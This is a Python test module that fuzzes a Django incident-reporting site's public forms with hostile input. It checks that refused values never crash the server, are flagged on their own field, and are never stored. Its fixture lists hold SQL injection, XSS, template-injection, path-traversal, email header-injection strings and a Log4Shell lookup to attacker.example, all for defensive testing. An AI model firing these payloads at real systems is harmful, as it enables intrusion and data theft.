"""Hostile input (ASVS V5.1): random and adversarial values in every public form never
cause a server error; each refused field gets its own error message on the page; and
nothing from a refused submission is stored.

Values: huge strings (up to 20,000 characters), control and bidi characters, mixed
scripts, SQL and HTML fragments, template syntax, impossible dates, negative and huge
numbers. Each example mixes valid answers with hostile ones, so that refusals of one
field are seen next to valid neighbours.
"""

from __future__ import annotations

import datetime as dt
import html
import json
import re
import uuid

import pytest
from django import forms
from django.urls import reverse
from hypothesis import HealthCheck, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from reports.copies.forms import VerifyForm
from reports.filing import drafts
from reports.filing.forms import ResumeForm, StatusLookupForm, SupplementForm
from reports.filing.session import ReportSession
from reports.models import Draft, Report
from reports.questions.steps import STEPS
from reports.registry import REPORT_TYPES
from screening.forms import SCREENING_PAGES
from screening.models import ScreeningOutcome
from tests.reports.wizard_data import (
    ROW_STEPS,
    STEP_DATA,
    answer_steps,
    rows_post,
    start_report,
    step_post,
    step_url,
)
from tests.security import browser, file_report, make_staff, signed_in, text_of

pytestmark = pytest.mark.django_db

EXAMPLES = hypothesis_settings(
    max_examples=40,
    deadline=None,
    database=None,  # no .hypothesis directory in the repository
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)

FRAGMENTS = [
    "' OR '1'='1",
    "'; DROP TABLE reports_report; --",
    '" OR 1=1 --',
    "1; SELECT pg_sleep(10)",
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "{{ settings.SECRET_KEY }}",
    "{% debug %}",
    "../../../../etc/passwd",
    "${jndi:ldap://attacker.example/a}",
    "\x00",
    "\x1b[31m",
    "\u202eevil\u202c",
    "\ufeff",
    "a\u200db",
    "e\u0301",
    "\r\n\r\n",
    "Ωμέγα حسن Тест 漢字 ✓ 🚲",
    "2024-02-30",
    "0000-00-00",
    "9999-12-31",
    "1899-12-31",
    "31/12/2020",
    "25:61",
    "-1",
    "0",
    "1e309",
    "NaN",
    "-Infinity",
    "-99999999999999999999",
    "999999999999999999999999999999",
    "0x10",
    "$-5.00",
    "   ",
]

hostile = st.one_of(
    st.sampled_from(FRAGMENTS),
    st.text(st.characters(exclude_categories=("Cs",)), max_size=80),
    st.builds(
        lambda fragment, n: (fragment * n)[:20_000],
        st.sampled_from([*FRAGMENTS, "x", "é", "🚲"]),
        st.integers(min_value=50, max_value=20_000),
    ),
    st.integers(min_value=-(10**30), max_value=10**30).map(str),
    st.dates(min_value=dt.date(1, 1, 1), max_value=dt.date(9999, 12, 31)).map(str),
)


def answers(valid: dict[str, str]):
    """Each field either its valid answer or a hostile value; at least one hostile."""
    names = sorted(valid)
    return st.fixed_dictionaries(
        {name: st.one_of(st.just(valid[name]), hostile) for name in names}
    ).filter(lambda data: data != valid)


def refused_fields_shown(page: str, form) -> list[str]:
    """Problems with how the page shows the form's errors: each refused field must have
    its error group and every message must be on the page. (The honeypot field is out of
    sight by design: its message shows in the error summary only.)"""
    text = html.unescape(page)
    problems = []
    bound_forms = list(form.forms) if isinstance(form, forms.BaseFormSet) else [form]
    if isinstance(form, forms.BaseFormSet):
        problems += [f"formset: {m}" for m in form.non_form_errors() if str(m) not in text]
    for bound in bound_forms:
        for name, messages in bound.errors.items():
            if name not in (forms.forms.NON_FIELD_ERRORS, "website"):
                field_id = re.escape(bound[name].auto_id)
                group = re.search(
                    rf'<div class="[^"]*usa-form-group--error[^"]*" id="group_{field_id}"', page
                )
                if group is None:
                    problems.append(f"{name}: no error shown next to the field")
            problems += [f"{name}: {m!r} not on the page" for m in messages if m not in text]
    return problems


def wizard_step_data(client, report_type: str, step: str):
    draft = ReportSession(client.session).latest_open_draft(report_type)
    if draft is None:
        return None
    saved, _filed, _saved_at = drafts.draft_state(draft_id=draft.draft_id, report_type=report_type)
    return (saved or {}).get("step_data", {}).get(step)


def check_wizard_step(client, step: str, post: dict, form):
    stored_before = wizard_step_data(client, "theft", step)
    drafts_before, reports_before = Draft.objects.count(), Report.objects.count()

    response = client.post(step_url(client, "theft", step), post)

    assert response.status_code in (200, 302), response.status_code
    if response.status_code == 302:
        assert form.is_valid(), form.errors
        return
    assert not form.is_valid()
    assert refused_fields_shown(response.content.decode(), form) == []
    assert wizard_step_data(client, "theft", step) == stored_before
    assert Draft.objects.count() == drafts_before
    assert Report.objects.count() == reports_before


@pytest.fixture
def relaxed_limits(settings):
    settings.RATELIMITS = {
        scope: (100_000, period) for scope, (_n, period) in settings.RATELIMITS.items()
    }


# --- Screening pages -------------------------------------------------------------------------

SCREENING_VALID = {"now": "no", "incident": "no", "place": "yes"}


def answer_screening_until(client, page_index: int) -> None:
    client.get("/screening/")
    for page in SCREENING_PAGES[:page_index]:
        data = dict.fromkeys(page.keys, SCREENING_VALID[page.slug])
        if "report_type" in data:
            data["report_type"] = "theft"
        client.post(f"/screening/{page.slug}/", data)


@pytest.mark.parametrize("page_index", range(len(SCREENING_PAGES)))
def test_screening_pages_survive_hostile_answers(relaxed_limits, page_index):
    page = SCREENING_PAGES[page_index]
    client = browser(220 + page_index)
    valid = dict.fromkeys(page.form_class().fields, SCREENING_VALID[page.slug])
    if "report_type" in valid:
        valid["report_type"] = "theft"

    @EXAMPLES
    @given(data=answers(valid))
    def attempt(data):
        answer_screening_until(client, page_index)
        outcomes_before = ScreeningOutcome.objects.count()

        response = client.post(f"/screening/{page.slug}/", data)

        form = page.form_class(data)
        assert response.status_code in (200, 302)
        if response.status_code == 302:
            assert form.is_valid(), form.errors
            return
        assert not form.is_valid()
        assert refused_fields_shown(response.content.decode(), form) == []
        assert ScreeningOutcome.objects.count() == outcomes_before

    attempt()


# --- Report steps ----------------------------------------------------------------------------


def wizard_post(step: str, data: dict[str, str]) -> dict[str, str]:
    return {"report_theft-current_step": step, **{f"{step}-{k}": v for k, v in data.items()}}


@pytest.mark.parametrize("step", ["about_you", "when_where", "narrative"])
def test_report_steps_survive_hostile_answers(relaxed_limits, step):
    client = browser(230)
    start_report(client, "theft")
    if step != "about_you":
        answer_steps(client, "theft", until=step)
    valid = dict(STEP_DATA[step])
    if step == "when_where":
        valid.update(start_date="", start_time="", end_date="", end_time="")

    @EXAMPLES
    @given(data=answers(valid))
    def attempt(data):
        post = wizard_post(step, data)
        form = STEPS[step].form_class(data=post, prefix=step)
        check_wizard_step(client, step, post, form)

    attempt()


def test_the_items_step_survives_hostile_rows_and_counts(relaxed_limits):
    client = browser(231)
    start_report(client, "theft")
    answer_steps(client, "theft", until="items")
    valid_row = ROW_STEPS["items"][0]
    management = st.one_of(
        st.just(None), st.sampled_from(["-1", "0", "26", "1000000", "abc", "1e3", ""])
    )

    @EXAMPLES
    @given(rows=st.lists(answers(valid_row), min_size=1, max_size=3), total=management)
    def attempt(rows, total):
        post = {"report_theft-current_step": "items", **rows_post("items", rows)}
        if total is not None:
            post["items-TOTAL_FORMS"] = total
        form = STEPS["items"].form_class(data=post, prefix="items")
        check_wizard_step(client, "items", post, form)

    attempt()


# --- After filing: status lookup and verification ---------------------------------------------


def test_the_status_lookup_survives_hostile_input(relaxed_limits):
    client = browser(232)
    valid = {"tracking_number": "ER-7K3M-9QXD-4", "email": "ana@example.org", "website": ""}

    @EXAMPLES
    @given(data=answers(valid))
    def attempt(data):
        response = client.post("/status/", data)

        form = StatusLookupForm(data)
        assert response.status_code == 200
        if not form.is_valid():
            assert refused_fields_shown(response.content.decode(), form) == []
        assert "We could not find" in html.unescape(response.content.decode()) or form.errors
        assert client.get("/status/report/").status_code == 302

    attempt()


def test_the_verification_page_survives_hostile_codes(relaxed_limits):
    client = browser(233)

    @EXAMPLES
    @given(code=hostile)
    def attempt(code):
        response = client.post("/verify/", {"code": code})

        form = VerifyForm({"code": code})
        assert response.status_code == 200
        page = html.unescape(response.content.decode())
        if form.is_valid():
            assert "We could not find a case copy with that code" in page
        else:
            assert refused_fields_shown(response.content.decode(), form) == []

    attempt()


# --- Known-bad values: each refused on its own field ------------------------------------------

# (step, field, value) that must be refused, next to otherwise valid answers.
KNOWN_BAD = [
    ("about_you", "first_name", "Ana\x00"),
    ("about_you", "first_name", "Ana\u202eLopez"),
    ("about_you", "first_name", "A" * 101),
    ("about_you", "last_name", "Lopez\x1b[31m"),
    ("about_you", "last_name", "Lopez\nSmith"),
    ("about_you", "date_of_birth", "1985-02-30"),
    ("about_you", "date_of_birth", "9999-12-31"),
    ("about_you", "date_of_birth", "0000-00-00"),
    ("about_you", "email", "<script>alert(1)</script>@example.org"),
    ("about_you", "email", "ana@example.org\r\nBcc: victim@example.org"),
    ("about_you", "phone", "1e309"),
    ("about_you", "phone", "' OR '1'='1"),
    ("about_you", "zip_code", "-1"),
    ("about_you", "state", "XX"),
    ("about_you", "reporting_for", "admin"),
    ("when_where", "date", "9999-12-31"),
    ("when_where", "date", "2024-02-30"),
    ("when_where", "time", "25:61"),
    ("when_where", "place_kind", "'; DROP TABLE reports_report; --"),
    ("narrative", "narrative", "x" * 10_001),
    ("narrative", "narrative", "short"),
    ("narrative", "narrative", "What happened\x00 next was odd and long enough."),
]


@pytest.mark.parametrize(("step", "field", "value"), KNOWN_BAD)
def test_known_bad_values_are_refused_on_their_field(relaxed_limits, step, field, value):
    client = browser(234)
    start_report(client, "theft")
    if step != "about_you":
        answer_steps(client, "theft", until=step)
    post = wizard_post(step, {**STEP_DATA[step], field: value})
    stored_before = wizard_step_data(client, "theft", step)

    response = client.post(step_url(client, "theft", step), post)

    page = response.content.decode()
    assert response.status_code == 200
    assert re.search(rf'usa-form-group--error[^"]*" id="group_id_{step}-{field}"', page), (
        f"{step}.{field} accepted {value[:40]!r}"
    )
    assert wizard_step_data(client, "theft", step) == stored_before


ITEM_BAD = [
    ("quantity", "-1"),
    ("quantity", "1e309"),
    ("quantity", "99999999999999999999"),
    ("value", "-5"),
    ("value", "NaN"),
    ("value", "Infinity"),
    ("value", "1e309"),
    ("description", "<b>" * 101),  # 303 characters, over the 300 allowed
    ("category", "weapons"),
]


@pytest.mark.parametrize(("field", "value"), ITEM_BAD)
def test_known_bad_item_values_are_refused_on_their_field(relaxed_limits, field, value):
    client = browser(235)
    start_report(client, "theft")
    answer_steps(client, "theft", until="items")
    post = {
        "report_theft-current_step": "items",
        **rows_post("items", [{**ROW_STEPS["items"][0], field: value}]),
    }

    response = client.post(step_url(client, "theft", "items"), post)

    assert response.status_code == 200
    assert re.search(
        rf'usa-form-group--error[^"]*" id="group_id_items-0-{field}"', response.content.decode()
    ), f"items.{field} accepted {value[:40]!r}"


# --- NUL characters: PostgreSQL can store none, so none may reach it -------------------------

# Keys no form declares (a step's own prefix included), each with a NUL in its value.
unknown_fields = st.dictionaries(
    keys=st.one_of(
        st.sampled_from(["note", "extra", "STEP-note", "report_TYPE-extra"]),
        st.text(
            st.characters(exclude_categories=("Cs",), exclude_characters="\x00"), max_size=20
        ).map(lambda key: f"x_{key}"),
    ),
    values=hostile.map(lambda value: f"{value}\x00"),
    min_size=1,
    max_size=4,
)

FEW_EXAMPLES = hypothesis_settings(EXAMPLES, max_examples=4)


def draft_json(client, report_type: str) -> str:
    draft = ReportSession(client.session).latest_open_draft(report_type)
    row = Draft.objects.filter(pk=draft.draft_id).values_list("data", "screening").get()
    return json.dumps(row)


def post_with_unknown_fields(client, report_type: str, step: str):
    """Valid answers to `step` with made-up keys holding NUL, a few times over."""

    @FEW_EXAMPLES
    @given(extra=unknown_fields)
    def attempt(extra):
        extra = {
            key.replace("STEP", step).replace("TYPE", report_type): value
            for key, value in extra.items()
        }
        response = client.post(
            step_url(client, report_type, step), {**step_post(report_type, step), **extra}
        )

        assert response.status_code == 302, (step, response.status_code)
        stored = draft_json(client, report_type)
        assert "\\u0000" not in stored
        assert not [key for key in extra if json.dumps(key) in stored], step

    attempt()


@pytest.mark.parametrize("report_type", sorted(REPORT_TYPES))
def test_unknown_fields_with_nul_are_not_stored_on_any_step(relaxed_limits, report_type):
    client = browser(236)
    start_report(client, report_type)

    for step in REPORT_TYPES[report_type].steps[:-1]:
        post_with_unknown_fields(client, report_type, step)

    filed = client.post(
        step_url(client, report_type, "declaration"),
        {**step_post(report_type, "declaration"), "note": "\x00", "declaration-x": "a\x00"},
    )

    assert filed.status_code == 302
    assert filed["Location"] == reverse("reports:confirmation")


def test_a_ticked_box_sent_with_nul_files_the_report(relaxed_limits):
    client = browser(237)
    start_report(client, "theft")
    answer_steps(client, "theft")

    response = client.post(
        step_url(client, "theft", "declaration"),
        {**step_post("theft", "declaration"), "declaration-confirm": "on\x00"},
    )

    assert response.status_code == 302
    assert response["Location"] == reverse("reports:confirmation")


def test_the_draft_store_takes_nul_out_of_every_string():
    draft = drafts.draft_autosave(
        draft_id=str(uuid.uuid4()),
        report_type="theft",
        data={"step": "about_you", "step_data": {"a\x00": {"k": ["v\x00"]}}, "extra_data": {}},
        screening={"answers": {"report_type": "theft\x00"}},
        email="ana\x00@example.org",
    )

    stored = Draft.objects.get(pk=draft.pk)
    assert stored.data["step_data"] == {"a": {"k": ["v"]}}
    assert stored.screening == {"answers": {"report_type": "theft"}}
    assert stored.email == "ana@example.org"


# (who, method, address, data): a NUL where no form field reads it.
NUL_ELSEWHERE = [
    ("clerk", "get", "/admin/reports/report/?status=%00", None),
    ("clerk", "get", "/admin/reports/report/?q=ab%00c", None),
    ("clerk", "post", "/admin/reports/report/", {"action": "x\x00", "_selected_action": "\x00"}),
    ("officer", "get", "/officer/?q=%00", None),
    ("anonymous", "get", "/status/?tracking_number=%00", None),
    ("anonymous", "get", "/screening/now/?x=%00", None),
    ("anonymous", "post", "/status/", {"tracking_number\x00": "ER-7K3M-9QXD-4"}),
    ("anonymous", "post", "/report/resume/", {"code": "A", "email": "a@b.org", "x\x00": "1"}),
    ("anonymous", "post", "/verify/", {"code\x00": "1"}),
]


@pytest.mark.parametrize(("who", "method", "url", "data"), NUL_ELSEWHERE)
def test_nul_in_an_address_or_parameter_name_gets_the_bad_request_page(
    relaxed_limits, who, method, url, data
):
    client = browser(238) if who == "anonymous" else signed_in(make_staff(who, password=None), 239)
    client.raise_request_exception = False

    response = getattr(client, method)(url, data) if data else getattr(client, method)(url)

    assert response.status_code == 400
    assert "We could not read that request" in text_of(response)


# (page, form, answers): a NUL in a field the form declares, next to valid answers.
NUL_IN_A_FIELD = [
    ("/report/resume/", ResumeForm, {"code": "7K3M-9QXD-4ABC\x00", "email": "ana@example.org"}),
    ("/report/resume/", ResumeForm, {"code": "7K3M-9QXD-4ABC-Q", "email": "ana\x00@example.org"}),
    ("/status/", StatusLookupForm, {"tracking_number": "ER-7K3M\x00", "email": "a@example.org"}),
    ("/verify/", VerifyForm, {"code": "7K3M9\x00QXD4A"}),
]


@pytest.mark.parametrize(("url", "form_class", "data"), NUL_IN_A_FIELD)
def test_nul_in_a_declared_field_is_refused_on_that_field(relaxed_limits, url, form_class, data):
    client = browser(238)

    response = client.post(url, {**data, "note": "\x00"})

    form = form_class(data)
    assert response.status_code == 200
    assert not form.is_valid()
    assert refused_fields_shown(response.content.decode(), form) == []


def test_a_supplement_with_nul_is_refused_and_nothing_is_added(relaxed_limits):
    resident = browser(239)
    report = file_report(resident)
    resident.post(
        reverse("reports:status"),
        {"tracking_number": report.tracking_number, "email": report.reporter_email},
    )
    data = {"narrative": "The bike had a red bell\x00 and a basket on the front."}

    response = resident.post(reverse("reports:supplement"), {**data, "note": "\x00"})

    assert response.status_code == 200
    assert refused_fields_shown(response.content.decode(), SupplementForm(data)) == []
    assert report.supplements.count() == 0
